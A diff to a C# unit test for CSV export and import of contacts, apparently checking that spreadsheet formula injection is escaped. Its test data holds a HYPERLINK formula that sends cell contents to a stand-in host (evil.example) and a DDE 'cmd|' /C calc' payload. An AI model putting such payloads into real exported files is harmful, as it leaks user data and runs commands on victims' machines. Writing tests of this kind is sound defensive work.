@@ -79,11 +79,11 @@ public sealed class CsvCellsTests
         var lines = text.ToString().Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
 
         // Numbers are written as 254…, never +254…, so they need no quote.
-        Assert.StartsWith("254712345678,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",\"'+cmd|' /C calc'!A0\",active,safaricom,\"'@SUM(1+1)\",", lines[1]);
+        Assert.StartsWith("254712345678,,,,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\",\"'+cmd|' /C calc'!A0\",active,safaricom,\"'@SUM(1+1)\",", lines[1]);
 
         var copy = await books.CreateAsync(org, "Copy", null);
         await using var csv = new MemoryStream(Encoding.UTF8.GetBytes(text.ToString()));
-        await services.Get<ContactImporter>().ImportAsync(org, copy.Id, csv, new ColumnMapping(0, 1, 2, new Dictionary<int, string> { [5] = "note" }));
+        await services.Get<ContactImporter>().ImportAsync(org, copy.Id, csv, new ColumnMapping(0, 4, 5, new Dictionary<int, string> { [8] = "note" }));
         var copied = Assert.Single((await contacts.QueryAsync(org, copy.Id, new ContactQuery())).Items);
         Assert.Equal("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") +cmd|' /C calc'!A0", copied.FullName);
         Assert.Equal("@SUM(1+1)", copied.CustomFields["note"]);
